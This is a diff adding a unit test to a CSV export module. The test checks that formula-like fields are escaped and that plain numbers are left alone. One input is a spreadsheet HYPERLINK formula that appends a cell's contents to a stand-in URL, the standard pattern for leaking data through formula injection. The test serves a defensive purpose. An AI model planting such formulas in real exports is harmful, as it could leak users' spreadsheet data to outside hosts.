@@ -73,4 +73,17 @@ describe('CSV format', () => {
     expect(rows).toHaveLength(4);
     expect(rows[0]).toContain(',"line one\nline two; ""quoted"", done",0,assets:bank,debit,false,10.05,USD,1005');
   });
+
+  it('neutralises a text a spreadsheet would run as a formula, and leaves plain numbers alone', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'])
+      expect(csvField(`${start}1+1`), JSON.stringify(start)).toBe(`"'${start}1+1"`);
+    expect(csvField('=HYPERLINK("https://x/?"&A2,"open")')).toBe('"\'=HYPERLINK(""https://x/?""&A2,""open"")"');
+    expect(csvField('-7950')).toBe('-7950');
+    expect(csvField('-79.50')).toBe('-79.50');
+    expect(csvField(-7950n)).toBe('-7950');
+    expect(csvField('-79.')).toBe(`"'-79."`);
+    expect(csvField('-1e3')).toBe(`"'-1e3"`);
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField(' =1')).toBe(' =1');
+  });
 });
